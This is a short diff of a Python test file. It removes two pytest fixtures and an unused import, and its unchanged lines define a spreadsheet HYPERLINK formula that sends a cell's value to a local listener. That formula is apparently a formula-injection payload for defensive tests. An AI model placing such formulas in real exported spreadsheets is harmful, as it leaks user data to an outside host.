@@ -21,7 +21,6 @@ import sys
 import time
 import tracemalloc
 import zipfile
-from dataclasses import replace
 from pathlib import Path
 from xml.etree import ElementTree
 
@@ -43,18 +42,6 @@ KG = Path(sys.executable).with_name("kg")
 LEAK = '=HYPERLINK("http://127.0.0.1:9999/?leak="&A2,"Click")'
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-@pytest.fixture
-def data_dir(tmp_path) -> Path:
-    folder = tmp_path / "data"
-    shutil.copytree(PACKAGE_DATA_DIR, folder)
-    return folder
-
-
-@pytest.fixture
-def city(settings, data_dir):
-    return replace(settings, data_dir=data_dir)
 
 
 @pytest.fixture(scope="module")
